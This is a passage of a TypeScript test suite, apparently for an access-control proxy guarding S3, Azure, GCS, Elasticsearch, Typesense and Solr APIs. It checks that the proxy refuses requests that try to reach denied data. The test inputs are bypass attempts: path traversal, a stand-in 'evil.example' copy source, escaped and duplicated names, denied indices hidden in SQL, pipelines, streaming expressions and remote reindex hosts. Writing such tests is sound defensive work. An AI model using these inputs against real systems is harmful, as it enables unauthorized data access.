  t.match((await put('x-ms-copy-source', `http://${dHost}/ok/dav/a.txt`, false, '/ok/bucket/copy-control-2')).text, /^HTTP\/1\.1 200/, 'control: Azure\'s copy from an allowed URL goes through');
  t.match((await put('x-amz-rename-source', '/ok/bucket/copy-control-2', false, '/ok/bucket/renamed')).text, /^HTTP\/1\.1 200/, 'control: a rename of an object the policy lets be read and deleted goes through');
  // A rename moves its source away: renaming a kept object (nothing under /keep may be deleted) is refused.
  davFiles.set('/keep/log.txt', 'kept');
  const [kept] = parseResponses((await put('x-ms-rename-source', '/keep/log.txt', false, '/ok/bucket/moved')).text);
  t.ok(kept?.status === 403 && isProblem(kept) && davFiles.has('/keep/log.txt'), `a rename moving a kept object: 403 (${kept?.status}), the object stays`);
  // GCS's JSON API names the destination after the source in the path (`…/copyTo/b/<dst>/o/<name>`).
  const gcsCopy = (verb: string, dst: string): Promise<{ text: string }> => rawToProxy(a.port, `POST http://${dHost}/storage/v1/b/ok/o/a.txt/${verb}/b/${dst}/o/b.txt HTTP/1.1\r\nHost: ${dHost}\r\n${auth}Content-Length: 0\r\n\r\n`, { responses: 1 });
  t.match((await gcsCopy('copyTo', 'ok2')).text, /^HTTP\/1\.1 200/, 'control: a GCS copy into an allowed bucket goes through');
  for (const verb of ['copyTo', 'rewriteTo']) {
    const [res] = parseResponses((await gcsCopy(verb, 'deny')).text);
    t.ok(res?.status === 403 && isProblem(res), `GCS ${verb} into a denied bucket: 403 (${res?.status})`);
  }
  t.notOk(davFiles.has('/gcs/deny/b.txt'), 'nothing was written into the denied bucket');
  let n = 0;
  await fc.assert(fc.asyncProperty(
    fc.record({
      // Fifteenth pass: a rename moves its source (S3 RenameObject, Azure Data Lake, Azure Files by URL).
      name: fc.constantFrom('x-amz-copy-source', 'X-Amz-Copy-Source', 'x-goog-copy-source', 'x-ms-copy-source', 'x-amz-rename-source', 'x-ms-rename-source', 'x-ms-file-rename-source'),
      source: fc.constantFrom('/deny/secret.txt', 'deny/secret.txt', '/deny/secret.txt?versionId=1', '//deny/secret.txt', 'ok/../deny/secret.txt', 'ok/%2e%2e/deny/secret.txt'),
      tunnel: fc.boolean(),
    }),
    async ({ name, source: path, tunnel }) => {
      const to = `/ok/bucket/copy-${++n}`;
      // Azure names the source by URL: this server's, or one on a host the policy does not allow.
      const source = name !== 'x-ms-copy-source' && name !== 'x-ms-file-rename-source' ? path : n % 2 ? `http://${dHost}/${path.replace(/^\/+/, '')}` : `http://evil.example/${path.replace(/^\/+/, '')}`;
      const [res] = parseResponses((await put(name, source, tunnel, to)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !davFiles.has(to) && davFiles.has('/deny/secret.txt');
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed });
});

t.test('property: an Elasticsearch _bulk, _msearch, _mget or _reindex body naming another index is decided for that index too', async (t) => {
  // `POST /ok/_bulk` judged under /ok while its action lines' `_index` made the server delete in
  // (or a search header read) an index the policy denies: `{"delete": {"_index": "deny", …}}`.
  const dHost = `allowed.example:${dav.port}`;
  const send = (path: string, body: string, tunnel: boolean, method = 'POST'): Promise<{ text: string }> => {
    const head = `Content-Type: application/x-ndjson\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const control = await send('/ok/_bulk', '{"index":{"_id":"1"}}\n{"a":1}\n{"delete":{"_index":"ok","_id":"2"}}\n', false);
  t.match(control.text, /^HTTP\/1\.1 200/, 'control: a bulk on the path\'s own index goes through');
  t.match((await send('/_aliases', JSON.stringify({ actions: [{ add: { index: 'ok2', alias: 'ok' } }] }), false)).text, /^HTTP\/1\.1 200/, 'control: an alias between allowed indices goes through');
  t.match((await send('/ok,ok2/_search', '', false, 'GET')).text, /^HTTP\/1\.1 200/, 'control: a search of a list of allowed indices goes through');
  // Fourteenth pass: `_aliases` actions, `_msearch/template`, `_mtermvectors`, comma lists (in a
  // search header, in the path's first segment, escaped there).
  const more: Array<[string, string, string, string]> = [
    ['POST', '/_aliases', JSON.stringify({ actions: [{ add: { index: 'deny', alias: 'ok-view' } }] }), 'alias-add deny'],
    ['POST', '/_aliases', JSON.stringify({ actions: [{ add: { index: 'ok2', alias: 'x' } }, { add: { indices: ['ok', 'deny'], aliases: ['ok-all'] } }] }), 'alias-add deny'],
    ['POST', '/_aliases', JSON.stringify({ actions: [{ remove_index: { index: 'deny' } }] }), 'alias-remove_index deny'],
    ['POST', '/ok/_msearch/template', '{}\n{"id":"t"}\n{"index":"deny"}\n{"id":"t"}\n', 'msearch deny'],
    ['POST', '/ok/_msearch', '{"index":"ok,deny"}\n{"query":{}}\n', 'msearch deny'],
    ['POST', '/ok/_mtermvectors', JSON.stringify({ docs: [{ _index: 'deny', _id: '1' }] }), 'mget deny'],
    ['GET', '/ok,deny/_search', '', 'search deny'],
    ['GET', '/ok%2Cdeny/_count', '', 'search deny'],
    ['DELETE', '/ok,deny', '', 'delete-index deny'],
    // Queries naming their indices: Elasticsearch SQL and ES|QL, OpenSearch PPL and SQL.
    ['POST', '/_sql', JSON.stringify({ query: 'SELECT * FROM "deny" LIMIT 5' }), 'sql deny'],
    ['POST', '/_sql/translate', JSON.stringify({ query: 'SELECT a FROM ok WHERE a IN (SELECT b FROM/**/deny)' }), 'sql deny'],
    ['POST', '/_query', JSON.stringify({ query: 'FROM ok, deny METADATA _id | LIMIT 10' }), 'sql deny'],
    ['POST', '/_query', JSON.stringify({ query: 'FROM ok | LOOKUP JOIN deny ON k' }), 'sql deny'],
    ['POST', '/_plugins/_ppl', JSON.stringify({ query: 'source = deny | head 1' }), 'sql deny'],
    ['POST', '/_plugins/_sql', JSON.stringify({ query: 'select * from ok o, deny d' }), 'sql deny'],
    // A reindex from a remote cluster: the server reads another origin, one the policy denies.
    ['POST', '/_reindex', JSON.stringify({ source: { remote: { host: 'http://internal.example:9200' }, index: 'remote-only' }, dest: { index: 'ok' } }), 'reindex-read remote-only'],
    // Jobs that copy a denied index into one the agent may read.
    ['PUT', '/_transform/copy', JSON.stringify({ source: { index: 'deny' }, dest: { index: 'ok-copy' }, pivot: {} }), 'job-read deny'],
    ['PUT', '/_enrich/policy/p', JSON.stringify({ match: { indices: ['ok', 'deny'], match_field: 'a', enrich_fields: ['b'] } }), 'job-read deny'],
    ['PUT', '/_ml/datafeeds/feed', JSON.stringify({ indices: 'ok,deny', job_id: 'j' }), 'job-read deny'],
    ['PUT', '/_rollup/job/r', JSON.stringify({ index_pattern: 'deny', rollup_index: 'ok-rollup' }), 'job-read deny'],
    ['POST', '/_snapshot/repo/snap/_restore', JSON.stringify({ indices: 'deny', rename_pattern: '(.+)', rename_replacement: 'ok-restored' }), 'job-read deny'],
    // Fifteenth pass: a snapshot's creation copies its indices out into the repository; a reindex
    // script or an ingest pipeline sends documents into another index.
    ['PUT', '/_snapshot/repo/snap2', JSON.stringify({ indices: 'ok,deny', include_global_state: false }), 'job-read deny'],
    ['POST', '/ok/_msearch', '{"indices":["deny"]}\n{"query":{}}\n', 'msearch deny'],
    ['POST', '/_reindex', JSON.stringify({ source: { index: 'ok' }, dest: { index: 'ok2' }, script: { source: "ctx._index = 'deny'" } }), 'reindex-write deny'],
    ['PUT', '/_ingest/pipeline/route', JSON.stringify({ processors: [{ set: { field: '_index', value: 'deny' } }] }), 'pipeline-route deny'],
    ['PUT', '/_ingest/pipeline/route2', JSON.stringify({ processors: [{ lowercase: { field: 'a' } }, { reroute: { destination: 'deny' } }] }), 'pipeline-route deny'],
  ];
  for (const query of ['SELECT EXTRACT(YEAR FROM ts) FROM ok', "SELECT * FROM ok WHERE msg = 'FROM deny' -- FROM deny", 'FROM ok | WHERE a > 1 | SORT a DESC', 'FROM ok | WHERE from == "x" | KEEP from']) {
    t.match((await send(query.startsWith('FROM') ? '/_query' : '/_sql', JSON.stringify({ query }), false)).text, /^HTTP\/1\.1 200/, `control: ${query} goes through`);
  }
  for (const [i, [method, path, body, acted]] of more.entries()) {
    const [res] = parseResponses((await send(path, body, i % 2 === 1, method)).text);
    t.ok(res?.status === 403 && isProblem(res), `${method} ${path} naming deny in its body or list: 403 (${res?.status})`);
    t.notOk(esRan.includes(acted), `the server never ran ${acted}`);
  }
  await fc.assert(fc.asyncProperty(
    fc.record({
      shape: fc.constantFrom('bulk', 'bulk without index in the path', 'msearch', 'mget', 'reindex'),
      verb: fc.constantFrom('delete', 'index', 'create', 'update'),
      position: fc.nat({ max: 1 }),
      tunnel: fc.boolean(),
    }),
    async ({ shape, verb, position, tunnel }) => {
      const before = esRan.length;
      const action = (index?: string): string => `{"${verb}":{${index ? `"_index":"${index}",` : ''}"_id":"1"}}\n${verb === 'delete' ? '' : verb === 'update' ? '{"doc":{"a":1}}\n' : '{"a":1}\n'}`;
      let path = '/ok/_bulk';
      let body: string;
      if (shape === 'msearch') (path = '/ok/_msearch', body = position ? '{}\n{"query":{}}\n{"index":"deny"}\n{"query":{}}\n' : '{"index":["ok","deny"]}\n{"query":{}}\n');
      else if (shape === 'mget') (path = '/ok/_mget', body = JSON.stringify({ docs: position ? [{ _id: '1' }, { _index: 'deny', _id: '2' }] : [{ _index: 'deny', _id: '2' }] }));
      else if (shape === 'reindex') (path = '/_reindex', body = JSON.stringify(position ? { source: { index: ['ok', 'deny'] }, dest: { index: 'ok' } } : { source: { index: 'ok' }, dest: { index: 'deny' } }));
      else {
        if (shape !== 'bulk') path = '/_bulk';
        const actions = [action(shape === 'bulk' ? undefined : 'ok'), action('deny')];
        body = (position ? actions : actions.reverse()).join('');
      }
      const [res] = parseResponses((await send(path, body, tunnel)).text);
      return res !== undefined && res.status === 403 && isProblem(res) && !esRan.slice(before).some((r) => r.endsWith(' deny'));
    },
  ), { numRuns: Math.min(numRuns, 12), ...seed });
  t.notOk(esRan.some((r) => r.endsWith(' deny')), 'the server never acted on the denied index');
});

t.test('property (twenty-sixth pass): a Meilisearch multi-search or index swap, a Typesense multi_search or alias, a Solr search\'s collection or shards parameter naming another index is decided for that index', async (t) => {
  // `POST /ok/multi-search` names no index in its path: its `queries[].indexUid` read `deny`,
  // which the policy refuses as `/indexes/deny/search` (Typesense: `searches[].collection`, or
  // the query's common `collection`; a swap writes both indices; an alias has later searches read
  // the collection it names).
  const dHost = `allowed.example:${dav.port}`;
  const send = (method: string, path: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = `Content-Type: application/json\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const controls: Array<[string, string, string]> = [
    ['POST', '/multi-search', JSON.stringify({ queries: [{ indexUid: 'movies', q: 'x' }, { indexUid: 'books', q: 'deny' }] })],
    ['POST', '/multi_search?collection=books', JSON.stringify({ searches: [{ collection: 'movies', q: '*' }, { q: 'deny' }] })],
    ['POST', '/swap-indexes', JSON.stringify([{ indexes: ['movies', 'movies_new'] }])],
    ['PUT', '/aliases/products', JSON.stringify({ collection_name: 'products_v2' })],
  ];
  for (const [method, path, body] of controls) {
    t.match((await send(method, path, body, false)).text, /^HTTP\/1\.1 200/, `control: ${method} ${path} naming allowed indices goes through`);
  }
  await fc.assert(fc.asyncProperty(
    fc.record({
      shape: fc.constantFrom('meili', 'meili federated', 'typesense', 'typesense common', 'swap', 'alias'),
      position: fc.nat({ max: 2 }),
      spelling: fc.constantFrom('', '/', 'escaped'),
      dup: fc.boolean(),
      tunnel: fc.boolean(),
    }),
    async ({ shape, position, spelling, dup, tunnel }) => {
      const before = esRan.length;
      const names = ['movies', 'books'];
      names.splice(position, 0, 'deny');
      let method = 'POST';
      let path: string;
      let body: string;
      const member = (k: string, v: string): string => (dup ? `"${k}":"movies","${k}":${JSON.stringify(v)}` : `"${k}":${JSON.stringify(v)}`);
      if (shape.startsWith('meili')) (path = '/multi-search', body = `{${shape.endsWith('federated') ? '"federation":{},' : ''}"queries":[${names.map((n) => `{${member('indexUid', n)},"q":"x"}`).join(',')}]}`);
      else if (shape === 'typesense') (path = '/multi_search', body = `{"searches":[${names.map((n) => `{${member('collection', n)},"q":"*"}`).join(',')}]}`);
      else if (shape === 'typesense common') (path = '/multi_search?collection=deny', body = '{"searches":[{"q":"*"}]}');
      else if (shape === 'swap') (path = '/swap-indexes', body = JSON.stringify([{ indexes: position ? ['movies', 'deny'] : ['deny', 'movies'] }]));
      else (method = 'PUT', path = '/aliases/products', body = `{${member('collection_name', 'deny')}}`);
      // (The endpoint as its server routes it too: a trailing slash, an escaped letter.)
      if (spelling === 'escaped') path = path.replace(/s(?=[^/]*$)|s(?=[^/]*\/products)/, '%73');
      else if (spelling) path = path.replace(/(?=\?|$)/, spelling);
      const [res] = parseResponses((await send(method, path, body, tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !esRan.slice(before).some((r) => r.endsWith(' deny'));
    },
  ), { numRuns: Math.min(numRuns, 24), ...seed });
  // (Solr: the `collection` and `shards` parameters, in the query, a form body or a JSON request's params.)
  const solrSend = (path: string, type: string, body: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = `${type ? `Content-Type: ${type}\r\n` : ''}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    const method = body ? 'POST' : 'GET';
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  t.match((await solrSend('/collections/products/documents/search?q=*&filter_by=%24customers(id:=1)&include_fields=$customers(*)', '', '', false)).text, /^HTTP\/1\.1 200/, 'control: a Typesense search joining an allowed collection goes through');
  for (const [i, [path, body]] of ([
    ['/collections/products/documents/search?q=*&filter_by=$deny(id:*)', ''],
    ['/collections/products/documents/search?q=*&include_fields=%24deny(*)', ''],
    ['/collections/products/documents/search?q=*&sort_by=$deny( score:desc)', ''],
    ['/multi_search', JSON.stringify({ searches: [{ collection: 'products', q: '*', filter_by: '$deny(id:*)' }] })],
    ['/presets/everything', JSON.stringify({ value: { searches: [{ collection: 'products', q: '*' }, { collection: 'deny', q: '*' }] } })],
    ['/presets/one', JSON.stringify({ value: { collection: 'products', q: '*', include_fields: '$deny(*)' } })],
  ] as const).entries()) {
    const before = esRan.length;
    const [res] = parseResponses((await solrSend(path.replace(/ /g, '%20'), body ? 'application/json' : '', body, i % 2 === 1)).text);
    t.ok(res !== undefined && res.status === 403 && isProblem(res) && !esRan.slice(before).some((r) => /deny$/.test(r)), `twenty-sixth pass: a Typesense search joining the denied collection (${path.slice(0, 70)}): 403 (${res?.status})`);
  }
  // (Elasticsearch's lookup runtime fields: in a search's runtime_mappings, in an index's mapping.)
  const lookupField = (target: string): Record<string, unknown> => ({ type: 'lookup', target_index: target, input_field: 'user_id', target_field: 'id', fetch_fields: ['email'] });
  t.match((await solrSend('/ok/_search', 'application/json', JSON.stringify({ runtime_mappings: { who: lookupField('ok2') }, fields: ['who'] }), false)).text, /^HTTP\/1\.1 200/, 'control: a lookup runtime field reading an allowed index goes through');
  for (const [i, [path, body]] of ([
    ['/ok/_search', JSON.stringify({ runtime_mappings: { who: lookupField('deny') }, fields: ['who'] })],
    ['/ok/_search', JSON.stringify({ runtime_mappings: { who: lookupField('ok2,deny') }, fields: ['who'] })],
    ['/ok/_mapping', JSON.stringify({ runtime: { who: lookupField('deny') } })],
    ['/ok3', JSON.stringify({ mappings: { runtime: { who: lookupField('deny') } } })],
  ] as const).entries()) {
    const before = esRan.length;
    const [res] = parseResponses((await solrSend(path, 'application/json', body, i % 2 === 1)).text);
    t.ok(res !== undefined && res.status === 403 && isProblem(res) && !esRan.slice(before).some((r) => /deny$/.test(r)), `twenty-sixth pass: an Elasticsearch lookup runtime field reading the denied index (${path}): 403 (${res?.status})`);
  }
  t.match((await solrSend('/solr/public/select?q=*:*&collection=public,news', '', '', false)).text, /^HTTP\/1\.1 200/, 'control: a Solr search of allowed collections goes through');
  t.match((await solrSend(`/solr/public/stream?expr=${encodeURIComponent('search(public, q="*:*", fl="id", sort="id asc")')}`, '', '', false)).text, /^HTTP\/1\.1 200/, 'control: a Solr streaming expression over an allowed collection goes through');
  t.match((await solrSend(`/solr/public/sql?stmt=${encodeURIComponent('SELECT id FROM public WHERE q = \'deny\'')}`, '', '', false)).text, /^HTTP\/1\.1 200/, 'control: Solr SQL over an allowed collection goes through');
  for (const [i, [path, type, body]] of ([
    ['/solr/public/select?q=*:*&collection=deny', '', ''],
    ['/solr/public/select?q=*:*&collection=public,deny', '', ''],
    ['/solr/public/select', 'application/x-www-form-urlencoded', 'q=*:*&collection=deny'],
    ['/solr/public/query', 'application/json', JSON.stringify({ query: '*:*', params: { collection: 'deny' } })],
    [`/solr/public/select?q=*:*&shards=${encodeURIComponent(`${dHost}/solr/public|${dHost}/solr/deny`)}`, '', ''],
    [`/solr/public/sql?stmt=${encodeURIComponent('SELECT id FROM public JOIN deny ON public.id = deny.id')}`, '', ''],
    ['/solr/public/sql', 'application/x-www-form-urlencoded', `stmt=${encodeURIComponent('SELECT email FROM deny')}`],
    [`/solr/public/stream?expr=${encodeURIComponent('search(deny, q="*:*", fl="email", sort="id asc")')}`, '', ''],
    ['/solr/public/stream', 'application/x-www-form-urlencoded', `expr=${encodeURIComponent('update(deny, batchSize=50, search(public, q="*:*", fl="id", sort="id asc"))')}`],
  ] as const).entries()) {
    const before = esRan.length;
    const [res] = parseResponses((await solrSend(path, type, body, i % 2 === 1)).text);
    t.ok(res !== undefined && res.status === 403 && isProblem(res) && !esRan.slice(before).some((r) => /deny$/.test(r)), `twenty-sixth pass: a Solr search naming the denied collection (${path.slice(0, 60)} ${body.slice(0, 40)}): 403 (${res?.status})`);
  }
  t.notOk(esRan.some((r) => r.endsWith(' deny')), 'the servers never read or swapped the denied index');
});

t.test('property (twenty-eighth pass): a Solr streaming expression\'s source inside a decorator, a let, fetch, shuffle or topic is decided for the collection it reads', async (t) => {
  // Solr runs `select(search(deny, …), id)` on `deny`: the reader matched `select(` with the text up
  // to the next `(` as its argument, which swallowed `search(`, so a source inside any decorator
  // (`unique`, `rollup`, `top`, `parallel`, `let(a=…)`) was never read; `fetch` and `shuffle` were
  // not sources to it, `topic` reads its second argument, and `/graph` runs expressions too.
  const dHost = `allowed.example:${dav.port}`;
  const send = (path: string, expr: string, form: boolean, tunnel: boolean): Promise<{ text: string }> => {
    const body = form ? `expr=${encodeURIComponent(expr)}` : '';
    const target = form ? path : `${path}?expr=${encodeURIComponent(expr)}`;
    const head = `${form ? 'Content-Type: application/x-www-form-urlencoded\r\n' : ''}Content-Length: ${body.length}\r\n\r\n`;
    const method = form ? 'POST' : 'GET';
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${target} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${dHost}${target} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const sources = (c: string): string[] => [
    `search(${c}, q="*:*", fl="id", sort="id asc")`,
    `shuffle(${c}, q="*:*", fl="id", sort="id asc")`,
    `fetch(${c}, search(public, q="*:*", fl="id", sort="id asc"), fl="email", on="id=id")`,
    `topic(public, ${c}, q="*:*", fl="id", id="t1")`,
    `update(${c}, batchSize=10, search(public, q="*:*", fl="id", sort="id asc"))`,
  ];
  const decorators: Array<(s: string) => string> = [
    (s) => s,
    (s) => `select(${s}, id)`,
    (s) => `unique(${s}, over="id")`,
    (s) => `rollup(${s}, over="id", count(*))`,
    (s) => `top(n=3, ${s}, sort="id asc")`,
    (s) => `let(a=${s}, get(a))`,
    (s) => `parallel(public, unique(${s}, over="id"), workers=2, sort="id asc")`,
  ];
  for (const [i, expr] of [decorators[1]!(sources('public')[0]!), decorators[5]!(sources('public')[1]!), sources('public')[2]!, decorators[3]!(sources('public')[3]!)].entries()) {
    t.match((await send(i % 2 ? '/solr/public/graph' : '/solr/public/stream', expr, i > 1, false)).text, /^HTTP\/1\.1 200/, `control: ${expr.slice(0, 50)} over allowed collections goes through`);
  }
  await fc.assert(fc.asyncProperty(
    fc.record({
      source: fc.nat({ max: 4 }),
      outer: fc.nat({ max: decorators.length - 1 }),
      inner: fc.nat({ max: decorators.length - 1 }),
      handler: fc.constantFrom('stream', 'graph'),
      blank: fc.constantFrom('', ' ', '\n  '),
      form: fc.boolean(),
      tunnel: fc.boolean(),
    }),
    async ({ source, outer, inner, handler, blank, form, tunnel }) => {
      const before = esRan.length;
      const expr = decorators[outer]!(decorators[inner]!(sources('deny')[source]!)).replaceAll('(', `(${blank}`);
      const [res] = parseResponses((await send(`/solr/public/${handler}`, expr, form, tunnel)).text);
      return res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !esRan.slice(before).some((r) => r.endsWith(' deny'));
    },
  ), { numRuns: Math.min(numRuns, 20), ...seed, examples: [[{ source: 0, outer: 1, inner: 0, handler: 'stream', blank: '', form: false, tunnel: false }]] });
  // A stream read from another cluster or database than the one asked is refused.
  for (const expr of ['search(public, zkHost="127.0.0.2:9983", q="*:*", fl="id", sort="id asc")', 'jdbc(connection="jdbc:postgresql://127.0.0.2/db", sql="select 1", sort="a asc")']) {
    const [res] = parseResponses((await send('/solr/public/stream', expr, false, false)).text);
    t.equal(res?.status, 400, `${expr.slice(0, 40)}: 400`);
  }
  t.notOk(esRan.some((r) => r.endsWith(' deny')), 'Solr never read the denied collection');
});

t.test('a request naming more indices, keys or sources than Airlock decides is refused, not decided by its first ones', async (t) => {
  // Seventeenth pass: the readers kept the first 20 names and let the rest go undecided: a bulk
  // naming 20 harmless indices before a delete in `deny`, a path `/ok0,…,ok19,deny/_search`, a 21st
  // alias action, an ES|QL source or a registry mount's 21st `from` reached what the policy denies.
  const dHost = `allowed.example:${dav.port}`;
  const send = (method: string, path: string, body: string, tunnel: boolean, type = 'application/json'): Promise<{ text: string }> => {
    const head = `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\n${method} ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `${method} http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const names = (n: number): string[] => Array.from({ length: n }, (_, i) => `ok${i}`);
  const nd = 'application/x-ndjson';
  const shapes = (n: number, last: string): Array<[string, string, string, string]> => [
    ['POST', '/ok/_bulk', [...names(n).map((i) => `{"index":{"_index":"${i}"}}\n{"a":1}\n`), `{"delete":{"_index":"${last}","_id":"1"}}\n`].join(''), nd],
    ['POST', '/_msearch', `{"index":"${[...names(n), last].join(',')}"}\n{}\n`, nd],
    ['GET', `/${[...names(n), last].join(',')}/_search`, '', 'application/json'],
    ['POST', '/_aliases', JSON.stringify({ actions: [...names(n).map((i) => ({ add: { index: i, alias: 'a' } })), { remove_index: { index: last } }] }), 'application/json'],
    ['POST', '/_query', JSON.stringify({ query: `FROM ${[...names(n), last].join(', ')} | LIMIT 1` }), 'application/json'],
    ['POST', '/_reindex', JSON.stringify({ source: { index: [...names(n - 1), last] }, dest: { index: 'ok' } }), 'application/json'],
  ];
  for (const [method, path, body, type] of shapes(19, 'ok19').filter((_, i) => i % 2 === 0)) {
    t.match((await send(method, path, body, false, type)).text, /^HTTP\/1\.1 200/, `control: ${method} ${path.slice(0, 40)} naming 20 indices goes through`);
  }
  // Each shape once, 20 to 35 names before the denied one, forward and tunneled.
  for (const [i, [method, path, body, type]] of shapes(20, 'deny').entries()) {
    const [, p2, b2, t2] = shapes(20 + 3 * i, 'deny')[i]!;
    const before = esRan.length;
    const [res] = parseResponses((await send(method, p2, b2, i % 2 === 1, t2 ?? type)).text);
    t.ok(res !== undefined && [400, 403].includes(res.status) && isProblem(res) && !esRan.slice(before).some((r) => r.endsWith(' deny')), `${method} ${path.slice(0, 30)} naming ${20 + 3 * i} indices before deny: refused (${res?.status})`);
  }
  const froms = [...names(20).map((i) => `from=${i}/base`), 'from=deny/db'].join('&');
  const [mount] = parseResponses((await send('POST', `/v2/ok/app/blobs/uploads/?mount=sha256:5ec&${froms}`, '', false)).text);
  t.ok(mount !== undefined && [400, 403].includes(mount.status) && isProblem(mount), `a blob mount with 21 sources: refused (${mount?.status})`);
  t.notOk(esRan.some((r) => r.endsWith(' deny')), 'the server never acted on the denied index');
});

t.test('an Elasticsearch body past the capture cap: a bulk\'s later lines act only on indices already decided, other bodies are refused', async (t) => {
  // Seventeenth pass: the readers read the captured start only. A 2 MiB bulk to /ok whose last line
  // deleted in `deny` was decided as a bulk to /ok; blanks before an `_aliases` body's `actions`,
  // or a search's lookup after a padding, left the captured start no whole JSON and named nothing.
  const dHost = `allowed.example:${dav.port}`;
  const send = (path: string, body: string, tunnel: boolean, type = 'application/x-ndjson'): Promise<{ text: string }> => {
    const head = `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n`;
    return tunnel
      ? rawToProxy(a.port, `CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${dHost}\r\n${head}${body}`, { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, `POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}${head}${body}`, { responses: 1 });
  };
  const doc = `{"msg":"${'x'.repeat(1000)}"}\n`;
  const docs = (index: string | undefined, n: number): string => `${index === undefined ? '{"index":{}}' : `{"index":{"_index":"${index}"}}`}\n${doc}`.repeat(n);
  const before = esRan.length;
  // Controls: later lines on the path's index, on none, or on one a captured line named.
  t.match((await send('/ok/_bulk', `{"index":{"_index":"ok2"}}\n${doc}${docs(undefined, 100)}${docs('ok', 2)}{"delete":{"_index":"ok2","_id":"1"}}\n`, false)).text, /^HTTP\/1\.1 200/, 'control: a 100 KB bulk whose later lines act on decided indices goes through');
  t.ok(esRan.slice(before).includes('delete ok2'), 'control: the server ran its last line');
  for (const [i, [path, body]] of ([
    ['/ok/_bulk', `${docs(undefined, 100)}{"delete":{"_index":"deny","_id":"1"}}\n`],
    ['/ok/_bulk/', `${docs(undefined, 100)}{"update":{"_index":"\\u0064eny","_id":"1"}}\n{"doc":{"a":1}}\n`],
    ['/ok/_bulk', `${docs(undefined, 100)}{"delete":{"_index":"deny","_id":"1"}}`],
  ] as const).entries()) {
    const [res] = parseResponses((await send(path, body, i % 2 === 1)).text);
    t.ok(res?.status === 400 && isProblem(res), `a bulk to ${path} naming deny past the capture cap: 400 (${res?.status})`);
  }
  // Twenty-first pass (left open by the nineteenth): a compressed bulk was refused whole once it went
  // past the capture cap or decoded past what the readers decode (1 MiB), though routine (Beats and
  // Logstash gzip their bulks): its lines are read decoded as they leave now.
  const sendCoded = (path: string, body: Buffer, coding: string, tunnel: boolean): Promise<{ text: string }> => {
    const head = Buffer.from(`Content-Type: application/x-ndjson\r\nContent-Encoding: ${coding}\r\nContent-Length: ${body.length}\r\n\r\n`);
    return tunnel
      ? rawToProxy(a.port, [Buffer.from(`CONNECT ${dHost} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}\r\nPOST ${path} HTTP/1.1\r\nHost: ${dHost}\r\n`), head, body], { responses: 1 })
        .then((r) => ({ text: r.text.replace(/^HTTP\/1\.1 200 Connection Established\r\n\r\n/, '') }))
      : rawToProxy(a.port, [Buffer.from(`POST http://${dHost}${path} HTTP/1.1\r\nHost: ${dHost}\r\n${auth}`), head, body], { responses: 1 });
  };
  const coded = (text: string, coding: string): Buffer => coding === 'gzip' ? zlib.gzipSync(text) : coding === 'deflate' ? zlib.deflateSync(text) : zlib.brotliCompressSync(text);
  // Past the readers: 1.2 MiB of one line repeated (under 2 KiB on the wire); past the cap: 300 KB of random documents (150 KB on the wire, more than one read).
  const sizes = {
    'decoding past the readers': (index: string | undefined): string => docs(index, 1200),
